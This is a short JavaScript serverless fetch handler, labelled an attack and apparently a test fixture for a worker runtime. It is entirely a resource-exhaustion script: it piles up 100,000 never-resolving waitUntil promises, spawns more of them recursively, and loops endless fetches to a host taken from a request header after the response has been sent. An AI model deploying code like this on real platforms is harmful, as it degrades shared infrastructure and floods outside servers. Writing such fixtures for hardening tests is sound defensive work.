// attack: waitUntil: a hundred thousand promises, work that goes on after the answer, and more from within
export default {
  fetch(request, env, ctx) {
    const internet = request.headers.get("hostile-internet");
    const more = () => {
      for (let index = 0; index < 100; index++)
        ctx.waitUntil(new Promise((resolve) => setTimeout(() => resolve(more()), 1)));
    };
    for (let index = 0; index < 100_000; index++) ctx.waitUntil(new Promise(() => {}));
    more();
    ctx.waitUntil(
      (async () => {
        for (;;) await fetch(`${internet}/`).catch(() => new Promise((resolve) => setTimeout(resolve, 1)));
      })(),
    );
    return new Response("answered");
  },
};
